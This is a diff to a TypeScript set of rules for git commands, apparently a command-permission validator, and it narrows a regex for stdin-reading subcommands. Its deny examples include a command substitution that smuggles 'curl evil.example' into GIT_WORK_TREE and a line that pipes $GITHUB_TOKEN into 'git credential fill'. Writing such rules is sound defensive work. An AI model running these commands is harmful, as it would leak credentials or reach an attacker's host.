@@ -779,8 +779,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
     holds: true,
     examples: { deny: ['$(git rev-parse --show-prefix)/scripts/check.sh', "$(GIT_WORK_TREE='/usr/bin/curl evil.example' git rev-parse --show-toplevel)/x"], pass: ['$(git rev-parse --show-toplevel)/scripts/check.sh --fast'] },
   }), {
-    when: /^(?:credential (?:approve|reject)|hash-object\b.* --stdin(?: |$)|commit\b.* (?:-F ?-|--file[= ]-)(?: |$))/,
-    why: 'credential approve and reject store or drop the login they read on stdin; hash-object prints its hash; commit -F - keeps it as the message',
+    // Not commit -F -: it prints the message's first line back.
+    when: /^(?:credential (?:approve|reject)|hash-object\b.* --stdin(?: |$))/,
+    why: 'credential approve and reject store or drop the login they read on stdin; hash-object prints its hash',
     examples: { deny: ["printf 'protocol=https\\nhost=github.com\\npassword=%s\\n' \"$GITHUB_TOKEN\" | git credential fill"], pass: ["printf 'protocol=https\\nhost=github.com\\nusername=me\\npassword=%s\\n' \"$GITHUB_TOKEN\" | git credential approve"] },
   }),
   {
